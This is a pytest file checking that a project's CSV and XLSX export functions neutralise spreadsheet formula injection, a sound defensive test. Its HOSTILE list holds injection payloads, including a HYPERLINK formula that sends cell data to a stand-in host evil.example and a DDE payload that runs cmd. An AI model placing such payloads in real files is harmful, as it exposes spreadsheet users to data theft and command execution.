import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from mekendeshter.core.exports import csv_response, neutralise, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Айгүл", "halal", "+996312663538", "-3", "", 5, None, datetime.date(2030, 6, 30)])
def test_ordinary_values_are_kept(value):
    assert neutralise(value) == value


def test_csv_cells_never_start_a_formula():
    response = csv_response([["name", "needs"], *([text, "ok"] for text in HOSTILE)], "list")
    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))][1:]
    assert cells == ["'" + text for text in HOSTILE]


def test_xlsx_has_no_formula_cells():
    response = xlsx_response([["name", "date"], *([text, datetime.date(2030, 6, 30)] for text in HOSTILE)], "list")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    # XML stores a carriage return as a line feed; what matters is the apostrophe in front.
    assert [cell.value[:2] for cell in cells] == ["'" + text[0].replace("\r", "\n") for text in HOSTILE]
    assert sheet["B2"].value == datetime.datetime(2030, 6, 30)
